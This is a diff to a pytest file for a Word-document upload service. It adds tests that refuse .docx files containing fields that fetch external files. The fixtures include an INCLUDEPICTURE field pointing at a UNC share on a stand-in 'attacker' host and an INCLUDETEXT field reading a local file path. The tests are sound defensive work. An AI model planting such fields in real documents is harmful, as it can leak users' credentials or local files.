@@ -2,6 +2,7 @@
 cannot exhaust a worker — at upload and at every later transition — with refusals naming the limit."""
 from __future__ import annotations
 
+import io
 import re
 import resource
 import time
@@ -68,6 +69,26 @@ def test_a_doctype_in_a_utf16_or_utf32_part_is_refused(rt, admin, encoding):  # 
     response = upload(admin, data)
     assert response.status_code == 422
     assert "DOCTYPE" in text(response)
+    assert count_versions(rt) == 0
+
+
+SIMPLE_FIELD = ('<w:p><w:fldSimple w:instr=\' INCLUDEPICTURE "\\\\attacker\\share\\x.png" \\d \'>'
+                '<w:r><w:t>рисунок</w:t></w:r></w:fldSimple></w:p>')
+SPLIT_FIELD = ('<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDE'
+               '</w:instrText></w:r><w:r><w:instrText>TEXT "file:///C:/x.docx" </w:instrText></w:r>'
+               '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>текст</w:t></w:r>'
+               '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>')
+
+
+@pytest.mark.parametrize("paragraph, field", [(SIMPLE_FIELD, "INCLUDEPICTURE"), (SPLIT_FIELD, "INCLUDETEXT")])
+def test_a_field_that_fetches_a_file_is_refused(rt, admin, paragraph, field):  # noqa: F811
+    data = own_polozhenie()
+    with zipfile.ZipFile(io.BytesIO(data)) as archive:
+        xml = archive.read("word/document.xml").decode("utf-8")
+    body = xml.index("<w:body>") + len("<w:body>")
+    response = upload(admin, rezip(data, replace={"word/document.xml": (xml[:body] + paragraph + xml[body:]).encode()}))
+    assert response.status_code == 422
+    assert f"поле Word {field}, которое загружает внешний файл" in text(response)
     assert count_versions(rt) == 0
 
 
